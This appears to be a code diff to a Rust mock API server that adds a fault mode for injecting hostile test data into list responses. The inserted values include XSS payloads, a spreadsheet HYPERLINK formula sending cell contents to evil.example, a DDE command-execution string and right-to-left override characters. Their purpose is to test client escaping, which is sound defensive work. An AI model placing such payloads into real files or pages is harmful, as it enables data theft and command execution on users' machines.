@@ -110,6 +110,33 @@ pub enum Fault {
     ResyncFail,
     /// `meta.total` disagrees with the first page (the data "changed" between pages).
     ShiftingTotal,
+    /// The first three entries of a page carry hostile text: markup and script, a
+    /// 10,000-character message, right-to-left text, emoji, control characters and spreadsheet
+    /// formulas ([`HOSTILE`]).
+    Hostile,
+}
+
+/// What [`Fault::Hostile`] writes into entries, field by field.
+pub const HOSTILE: &[(&str, &str)] = &[
+    (
+        "common_ref",
+        "<img src=x onerror=\"window.__pwned=1\">REF-1",
+    ),
+    ("type", "📦 Order 👩‍👩‍👧 <b>bold</b>"),
+    (
+        "error",
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for details\")",
+    ),
+    ("source_id", "+cmd|' /C calc'!A0"),
+    ("endpoint_id", "@SUM(1+1)"),
+];
+
+/// The hostile message: script, right-to-left override, Arabic, control characters, and length.
+pub fn hostile_message() -> String {
+    format!(
+        "<script>window.__pwned=2</script>\u{202e}deliaf\u{202c} شركة الاختبار فشلت \u{7}\u{0}{}",
+        "A very long failure reason that goes on and on. ".repeat(205)
+    )
 }
 
 /// A fault for requests whose path ends with `path` (and whose query holds `query_contains`),
@@ -583,6 +610,18 @@ async fn list(
                 }
             }
             Fault::Malformed => malformed = true,
+            Fault::Hostile => {
+                if let Some(Value::Array(items)) = value.get_mut("data") {
+                    for item in items.iter_mut().take(3) {
+                        for (field, text) in HOSTILE {
+                            item[*field] = json!(text);
+                        }
+                        item["message"] = json!(hostile_message());
+                        item["integration"]["name"] = json!("\u{202e}Acme RTL\u{202c} مؤسسة");
+                        item["status"] = json!("Failed");
+                    }
+                }
+            }
             _ => {}
         }
     }
